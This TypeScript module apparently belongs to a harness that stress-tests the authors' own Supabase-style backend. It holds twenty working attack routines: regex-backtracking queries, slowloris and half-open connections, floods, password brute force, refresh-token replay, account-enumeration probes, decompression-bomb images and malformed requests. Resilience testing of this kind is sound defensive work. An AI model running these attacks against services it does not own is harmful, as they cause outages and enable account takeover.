import { randomInt, randomUUID } from "node:crypto";
import { setTimeout as pause } from "node:timers/promises";
import sharp from "sharp";
import { field, type HostileClient } from "./hostile-client.ts";
import { PASSWORD } from "./people.ts";

/** What one hostile client does over and over. */
export interface Kind {
  name: string;
  /** How many of its requests run at once. */
  concurrency: number;
  /** Pause between two requests; PAUSE_MS by default, which bounds the load that the clients themselves cause on this machine. */
  pauseMs?: number;
  /** Runs once, before anything is measured. */
  prepare?(client: HostileClient): Promise<void>;
  attack(client: HostileClient, round: number): Promise<unknown>;
}

const OWNED_BY = "user_id=eq.";
/** Each of them takes six characters in JSON (\u0001). */
const CONTROL_CHARACTERS = "\u0001".repeat(40_000);

async function storeLargeRows(client: HostileClient): Promise<void> {
  await client.signIn();
  for (let i = 0; i < 5; i++)
    await client.post("/rest/v1/sermons", { user_id: client.person.id, title: `Large ${i}`, content: CONTROL_CHARACTERS });
}

const aliases = (times: number): string => Array.from({ length: times }, (_, i) => `a${i}:content`).join(",");
/** Reads five large rows with the large column repeated, as often as `aliasCounts` says in turn. */
const largeRows = (name: string, aliasCounts: readonly number[]): Kind => ({
  name,
  concurrency: 1,
  prepare: storeLargeRows,
  attack: (client, round) =>
    client.ask(`/rest/v1/sermons?select=${aliases(aliasCounts[round % aliasCounts.length] ?? 1)}&${OWNED_BY}${client.person.id}`),
});

/** PostgreSQL takes more than ten seconds to compile this regular expression, however short the text to match. */
const SLOW_PATTERN = encodeURIComponent("(a|bc)?".repeat(400));
/** Almost matches at every position of the large rows, so the comparison backtracks. */
const SLOW_LIKE = `${"*%01".repeat(200)}b`;

/** About 380 kB in the file, 49 megapixels once it is decoded. */
let largePicture: Promise<Uint8Array<ArrayBuffer>> | undefined;
const drawLargePicture = async (): Promise<Uint8Array<ArrayBuffer>> => {
  const blank = sharp({ create: { width: 7000, height: 7000, channels: 3, background: "#a05020" }, limitInputPixels: false });
  return new Uint8Array(await blank.png({ compressionLevel: 9 }).toBuffer());
};
const largePictures = (name: string): Kind => ({
  name,
  concurrency: 2,
  async prepare(client) {
    largePicture ??= drawLargePicture();
    await Promise.all([largePicture, client.signIn()]);
  },
  attack: async (client) =>
    client.ask(`/storage/v1/object/avatars/${client.person.id}-${randomInt(1e9)}.png`, {
      method: "POST",
      headers: { "content-type": "image/png" },
      body: (await largePicture) ?? new Uint8Array(),
    }),
});

const unknownEmail = (): string => `${randomUUID()}@example.org`;
const wrongPasswords = (name: string, email: (client: HostileClient) => string): Kind => ({
  name,
  concurrency: 5,
  attack: (client) => client.post("/auth/v1/token?grant_type=password", { email: email(client), password: randomUUID() }),
});

const flood = (name: string, path: string, init: Parameters<HostileClient["ask"]>[1] = {}): Kind => ({
  name,
  concurrency: 4,
  pauseMs: 5,
  attack: (client) => client.ask(path, init),
});

const SMALL_PICTURE = new Uint8Array(
  Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "base64"),
);

/** Twenty, one for each hostile client. */
export const KINDS: readonly Kind[] = [
  largeRows("hundreds of aliases of large rows", [500, 80]),
  largeRows("large rows", [1, 2, 3]),
  {
    name: "anonymous regular expressions",
    concurrency: 10,
    attack: (client) => client.ask(`/rest/v1/health_check?status=match.${SLOW_PATTERN}`, { token: "" }),
  },
  {
    name: "regular expressions and likes of a person",
    concurrency: 2,
    prepare: storeLargeRows,
    attack: (client, round) =>
      client.ask(`/rest/v1/sermons?select=id&content=${round % 2 ? `match.${SLOW_PATTERN}` : `like.${SLOW_LIKE}`}`),
  },
  {
    name: "replayed refresh tokens",
    concurrency: 2,
    prepare: async (client) => {
      await client.signIn();
      await client.post("/auth/v1/token?grant_type=refresh_token", { refresh_token: client.refreshToken });
    },
    attack: (client) => client.post("/auth/v1/token?grant_type=refresh_token", { refresh_token: client.refreshToken }),
  },
  {
    name: "sign-ups with unknown addresses",
    concurrency: 2,
    attack: (client) => client.post("/auth/v1/signup", { email: unknownEmail(), password: PASSWORD }),
  },
  {
    name: "recoveries for unknown addresses",
    concurrency: 2,
    attack: (client) => client.post("/auth/v1/recover", { email: unknownEmail() }),
  },
  largePictures("pictures of 49 megapixels"),
  largePictures("more pictures of 49 megapixels"),
  {
    name: "planned counts",
    concurrency: 2,
    prepare: (client) => client.signIn(),
    attack: (client, round) =>
      client.ask("/rest/v1/sermons?select=id&limit=1", { headers: { prefer: `count=${round % 2 ? "planned" : "estimated"}` } }),
  },
  {
    name: "uploads after the deletion",
    concurrency: 1,
    async prepare(client) {
      await client.signIn();
      const { text } = await client.post(`/storage/v1/object/upload/sign/avatars/${client.person.id}-late.png`, {});
      client.signedPath = `/storage/v1${field(text, "url")}`;
      // Both proofs that a deletion can ask for.
      await client.post("/functions/v1/delete-account", { confirmation: client.person.email, password: PASSWORD });
    },
    attack: (client) =>
      client.ask(client.signedPath, {
        method: "PUT",
        headers: { "content-type": "image/png", "x-upsert": "true" },
        body: SMALL_PICTURE,
      }),
  },
  {
    name: "otp probes",
    concurrency: 2,
    attack: (client) => client.post("/auth/v1/otp", { email: unknownEmail(), create_user: false }),
  },
  wrongPasswords("wrong passwords for one account", (client) => client.person.email),
  wrongPasswords("wrong passwords for many accounts", unknownEmail),
  {
    name: "slow bodies",
    concurrency: 50,
    attack: (client) =>
      client.raw(
        `${client.head("POST /auth/v1/token?grant_type=password", `apikey: ${client.target.anonKey}`, "Content-Type: application/json", "Content-Length: 100000")}\r\n\r\n{`,
        { holdMs: 60_000, more: " " },
      ),
  },
  {
    name: "open connections",
    concurrency: 200,
    // Half of the connections send nothing, half never end their headers.
    attack: (client, round) =>
      client.raw(round % 2 ? "" : `${client.head("GET /")}\r\n`, { holdMs: 60_000, more: round % 2 ? "" : "X: y\r\n" }),
  },
  flood("flood of /rest", "/rest/v1/health_check?select=status"),
  flood("flood of /storage", "/storage/v1/object/public/avatars/nobody.png"),
  flood("flood of /functions", "/functions/v1/check-subscription", { method: "POST", body: "{}" }),
  {
    name: "malformed requests and guesses",
    concurrency: 2,
    async attack(client, round) {
      const password = Buffer.from(`dev:guess number ${round}`).toString("base64");
      const turns = [
        () => client.raw(`${client.head("GET /rest/v1/%")}\r\nNo colon here\r\n\r\n`, { holdMs: 2000 }),
        () => client.raw(`${client.head("GET /", `X-Large: ${"x".repeat(64_000)}`)}\r\n\r\n`, { holdMs: 2000 }),
        () => client.raw(`\u0000\u0016\u0003\u0001 not HTTP\r\n\r\n`, { holdMs: 2000 }),
        () => client.ask("/inbox/messages.json", { headers: { authorization: `Basic ${password}` } }),
        () => client.post("/storage/v1/object/list-v2/avatars", { prefix: "" }),
        () => client.ask("/rest/v1/sermons?select=*", { headers: { accept: "constructor" } }),
        () => client.post("/rest/v1/rpc/constructor", {}),
      ];
      await turns[round % turns.length]?.();
    },
  },
];

const PAUSE_MS = 25;

/** Runs one client's attack, with its concurrency, until `signal` aborts. */
export async function attack(client: HostileClient, kind: Kind, signal: AbortSignal): Promise<void> {
  const repeat = async (first: number): Promise<void> => {
    for (let round = first; !signal.aborted; round += kind.concurrency) {
      await kind.attack(client, round);
      await pause(kind.pauseMs ?? PAUSE_MS);
    }
  };
  await Promise.all(Array.from({ length: kind.concurrency }, (_, first) => repeat(first)));
}
